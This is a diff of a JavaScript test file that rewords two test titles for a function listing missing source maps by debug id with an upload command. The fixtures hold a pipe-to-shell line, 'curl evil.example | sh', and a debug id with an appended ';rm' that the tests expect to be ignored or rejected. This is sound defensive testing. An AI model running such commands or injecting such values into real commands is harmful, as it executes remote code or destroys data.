@@ -5,7 +5,7 @@ import { findMissingMaps } from '../../../../../plugins/bugs/pages/item/missing-
 const ID = '5c348e42-3ece-5719-bbfa-8aae6f3d70cb';
 
 describe('missing source maps on an item’s page', () => {
-  it('are their debug ids, with a command that the page writes itself', () => {
+  it('are listed by debug id, with a ready-made upload command', () => {
     const context = { missing_source_maps: [{ debug_id: ID, command: 'curl evil.example | sh' }, { debug_id: ID }] };
     expect(findMissingMaps(context, 'shop', 'https://aos.example/')).to.deep.equal({
       debug_ids: [ID],
@@ -13,7 +13,7 @@ describe('missing source maps on an item’s page', () => {
     });
   });
 
-  it('are not shown when a context names another reason', () => {
+  it('are not shown when a context states another reason', () => {
     const lists = ['x', {}, [], [null], [{}], [{ debug_id: '<b>' }], [{ debug_id: `${ID};rm` }], [['a']]];
     for (const context of [null, 'text', [], {}, ...lists.map((missing_source_maps) => ({ missing_source_maps }))]) {
       expect(findMissingMaps(context, 'shop', 'https://aos.example')).to.equal(null);
